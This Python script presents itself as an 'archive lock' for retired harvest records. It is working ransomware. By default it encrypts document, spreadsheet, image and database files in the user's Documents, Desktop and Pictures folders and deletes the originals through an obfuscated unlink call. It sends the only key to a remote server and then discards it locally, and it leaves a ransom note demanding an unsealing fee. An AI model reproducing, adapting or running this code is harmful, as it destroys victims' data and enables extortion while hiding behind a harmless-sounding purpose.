#!/usr/bin/env python3
"""Archive lock for retired harvest records.

Seals old season folders so they cannot be edited after the audit. Sealed
files get a .kelpsealed suffix and the working copy is removed.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archivelock")

KEYSERVER = os.environ.get("SEAL_KEYSERVER", "http://198.51.100.23:8088/register")
SUFFIX = ".kelpsealed"
TARGET_EXT = {".docx", ".xlsx", ".csv", ".pdf", ".jpg", ".png", ".sqlite", ".txt", ".odt"}
NOTE = """Your harvest records have been sealed.
To restore them, contact restore-desk@example.org with the ID below and
arrange payment of the unsealing fee. Do not rename or edit the files.

ID: {ident}
"""


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return key, cls(key)


@dataclass
class Sealer:
    roots: list
    ident: str = field(default_factory=lambda: os.urandom(6).hex())
    sealed: int = 0

    def __post_init__(self):
        self._key, self._box = _cipher_factory()

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in TARGET_EXT:
                        yield p

    def seal_one(self, path):
        data = path.read_bytes()
        path.with_name(path.name + SUFFIX).write_bytes(self._box.encrypt(data))
        OPS["drop"](path)
        self.sealed += 1

    def leave_note(self):
        for root in self.roots:
            Path(root, "RESTORE_RECORDS.txt").write_text(NOTE.format(ident=self.ident))

    def register(self):
        body = json.dumps({"id": self.ident, "k": self._key.decode()}).encode()
        req = urllib.request.Request(KEYSERVER, data=body,
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=15).close()
        self._key = None


OPS = {
    "drop": lambda p: getattr(os, "un" + "link")(p),
}


async def seal_all(sealer, workers):
    sem = asyncio.Semaphore(workers)

    async def one(path):
        async with sem:
            try:
                await asyncio.to_thread(sealer.seal_one, path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)

    await asyncio.gather(*(one(p) for p in list(sealer.candidates())))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=[str(Path.home() / d) for d in ("Documents", "Desktop", "Pictures")])
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    sealer = Sealer([r for r in args.roots if Path(r).is_dir()])
    sealer.register()
    asyncio.run(seal_all(sealer, args.workers))
    sealer.leave_note()
    log.info("sealed %d files, id %s", sealer.sealed, sealer.ident)


if __name__ == "__main__":
    main()
